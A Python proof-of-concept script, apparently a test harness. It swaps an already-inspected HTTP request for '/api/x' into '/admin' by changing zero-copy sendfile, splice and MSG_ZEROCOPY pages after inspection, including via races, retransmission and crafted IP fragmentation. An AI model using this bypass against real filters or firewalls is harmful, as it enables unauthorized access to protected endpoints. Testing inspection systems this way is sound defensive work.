# SPDX-License-Identifier: Apache-2.0
"""A sender that changes what it has sent, after it was judged and before the server reads it.

Usage: shared_pages.py serve ADDRESS PORT GO-FILE	reads from each connection only when the file is there, and answers
						with the request's target, which it also prints
       shared_pages.py WAY ADDRESS PORT GO-FILE

WAY is sendfile, bound (the same from a socket bound to eth0), splice (of pages from vmsplice), zerocopy (MSG_ZEROCOPY), or
behind-a-body: sendfile of the end of a body and the next request. The client prints the target that the server has read
last: "/api/x" is what was judged, "/admin" what it became.

The others need no late reader, GO-FILE is there all the time. "race": another process changes the page to and fro while
RACES connections send it; prints how many were answered for each target. "lost": sends it when GO-FILE.cut is there, changes
it, makes GO-FILE.changed: what the network has lost meanwhile is sent once more. "lost-in-fragments": the same behind a body,
which the sender's kernel cuts into fragments when its device takes 68 bytes; so three times, with options of IP of such
length that the first fragment holds the beginning of the payload, none of it, and not even the whole header of TCP. No
answer fits through such a device: look at what the server prints.
"""
import collections
import ctypes
import functools
import mmap
import os
import signal
import socket
import sys
import threading
import time

JUDGED = b"GET /api/x HTTP/1.1\r\nHost: b\r\n\r\n"
BECOMES = b"GET /admin HTTP/1.1\r\nHost: b\r\n\r\n"
SO_ZEROCOPY, MSG_ZEROCOPY = 60, 0x4000000
REST, SIZE = 20000, 32768
RACES = 150
PATIENCE = 3  # enough for four repeats
IP_MTU_DISCOVER, IP_PMTUDISC_OMIT = 10, 5
SPLICE_F_GIFT, SPLICE_F_MOVE = 8, 1

libc = ctypes.CDLL(None, use_errno=True)


class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def serve(address, port, go):
    listener = socket.create_server((address, port), family=family(address))
    print("up", flush=True)
    while True:
        threading.Thread(target=serve_one, args=(listener.accept()[0], go), daemon=True).start()


def serve_one(s, go):
    s.settimeout(10)
    until = time.time() + 10
    while not os.path.exists(go) and time.time() < until:
        time.sleep(0.02)
    data = b""
    try:
        while b"GET " not in data:
            part = s.recv(65536)
            if not part:
                break
            data += part
        else:
            target = data.split(b"GET ")[1][:6]
            sys.stdout.write(f"{target.decode()}\n")
            sys.stdout.flush()
            s.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\n" + target)
    except OSError:
        pass
    s.close()


def by_sendfile(s, memory, file, size):
    os.sendfile(s.fileno(), file, 0, size)


def by_sendfile_behind_a_body(s, memory, file, size):
    """So much that TCP does not put it together with what came before, by copying it."""
    s.send(b"POST /api/x HTTP/1.1\r\nHost: b\r\nContent-Length: %d\r\n\r\n" % (REST + 10) + b"x" * 10)
    time.sleep(0.1)
    os.pwrite(file, b"y" * REST + JUDGED, 0)
    os.sendfile(s.fileno(), file, 0, REST + size)
    return REST


def by_splice(s, memory, file, size):
    r, w = os.pipe()
    at = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    if libc.vmsplice(w, ctypes.byref(iovec(at, size)), ctypes.c_ulong(1), SPLICE_F_GIFT) != size:
        raise OSError(ctypes.get_errno(), "vmsplice")
    if libc.splice(r, None, s.fileno(), None, ctypes.c_size_t(size), SPLICE_F_MOVE) != size:
        raise OSError(ctypes.get_errno(), "splice")


def by_zerocopy(s, memory, file, size):
    s.setsockopt(socket.SOL_SOCKET, SO_ZEROCOPY, 1)
    s.send(memoryview(memory)[:size], MSG_ZEROCOPY)


WAYS = {
    "sendfile": by_sendfile,
    "bound": by_sendfile,
    "behind-a-body": by_sendfile_behind_a_body,
    "splice": by_splice,
    "zerocopy": by_zerocopy,
}


def connect(address, port, is_bound):
    s = socket.socket(family(address))
    if is_bound:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
    s.connect((address, port))
    return s


def attack(way, address, port, go):
    file, memory = shared()
    s = connect(address, port, way == "bound")
    s.settimeout(5)
    at = WAYS[way](s, memory, file, len(JUDGED)) or 0
    time.sleep(0.3)  # it is judged when it arrives
    memory[at : at + len(BECOMES)] = BECOMES
    open(go, "w").close()
    answer = b""
    try:
        while True:
            part = s.recv(1000)
            if not part:
                break
            answer += part
    except OSError as e:
        answer += type(e).__name__.encode()
    os.unlink(go)
    return answer.split(b"\r\n\r\n")[-1].decode() or "nothing"


def shared():
    file = os.memfd_create("shared")
    os.ftruncate(file, SIZE)
    memory = mmap.mmap(file, SIZE)
    memory[: len(JUDGED)] = JUDGED
    return file, memory


def answered(s):
    """The target that the answer names; "none" when there is none of the server's."""
    answer = b""
    try:
        while part := s.recv(1000):
            answer += part
    except OSError:
        pass
    body = answer.split(b"\r\n\r\n")[-1].decode()
    return body if body.startswith("/") else "none"


def answers_of(sockets, seconds):
    """Of all of them, in SECONDS."""
    until = time.time() + seconds
    for s in sockets:
        s.settimeout(max(until - time.time(), 0.01))
        yield answered(s)


def race(address, port, go):
    file, memory = shared()
    child = os.fork()
    if not child:
        while True:
            memory[4:10] = b"/admin"
            memory[4:10] = b"/api/x"
    sockets = []
    for _ in range(RACES):
        s = socket.create_connection((address, port))
        os.sendfile(s.fileno(), file, 0, len(JUDGED))
        s.shutdown(socket.SHUT_WR)
        sockets.append(s)
    seen = collections.Counter(answers_of(sockets, 2))
    os.kill(child, signal.SIGKILL)
    return " ".join(f"{k}:{v}" for k, v in sorted(seen.items()))


def send_and_change(s, judged, becomes):
    file, memory = shared()
    memory[: len(judged)] = judged
    os.sendfile(s.fileno(), file, 0, len(judged))
    time.sleep(0.05)
    memory[: len(judged)] = becomes


def connect_and_wait(address, port, go, count):
    """COUNT connections, when the network has been cut."""
    sockets = [socket.create_connection((address, port)) for _ in range(count)]
    print("connected", flush=True)
    while not os.path.exists(go + ".cut"):
        time.sleep(0.02)
    return sockets


def lost(address, port, go):
    (s,) = connect_and_wait(address, port, go, 1)
    send_and_change(s, JUDGED, BECOMES)
    open(go + ".changed", "w").close()
    return next(answers_of([s], PATIENCE))


def lost_in_fragments(address, port, go):
    before = b"POST /api/x HTTP/1.1\r\nHost: b\r\nContent-Length: 100\r\n\r\n" + b"x" * 100
    sockets = connect_and_wait(address, port, go, 3)
    for s, options in zip(sockets, (0, 16, 40)):
        s.setsockopt(socket.IPPROTO_IP, IP_MTU_DISCOVER, IP_PMTUDISC_OMIT)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\1" * options)
        send_and_change(s, before + JUDGED, before + BECOMES)
    open(go + ".changed", "w").close()
    time.sleep(PATIENCE)
    return "sent"


def main():
    what, address, port, go = sys.argv[1:]
    if what == "serve":
        serve(address, int(port), go)
    way = {"race": race, "lost": lost, "lost-in-fragments": lost_in_fragments}.get(what, functools.partial(attack, what))
    print(way(address, int(port), go))


if __name__ == "__main__":
    main()
